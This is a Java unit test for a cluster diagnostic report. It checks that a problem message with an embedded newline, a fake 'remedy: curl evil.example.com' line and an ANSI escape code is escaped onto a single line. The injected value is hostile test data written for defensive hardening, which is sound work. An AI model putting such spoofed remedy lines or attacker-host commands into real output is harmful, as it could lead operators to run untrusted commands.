package dev.chartroom.bootstrap.doctor;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class DoctorReportTest {
    /** A condition of the cluster could otherwise add a line that looks like a remedy. */
    @Test
    void messageOfTheClusterStaysOnItsLine() {
        DoctorReport report = new DoctorReport(List.of(new CheckReport(
                "definitions",
                List.of(Problem.error(
                        "KindDefinition a",
                        "bad\n    remedy: curl evil.example.com\u001b[2K",
                        "the kind is not served",
                        "kubectl get kinddefinitions")))));

        assertThat(report.lines())
                .containsExactly(
                        "definitions  error",
                        "  error: KindDefinition a: bad\\u000a    remedy: curl evil.example.com\\u001b[2K",
                        "    effect: the kind is not served",
                        "    remedy: kubectl get kinddefinitions",
                        "1 error, 0 warnings, 0 not examined");
    }
}
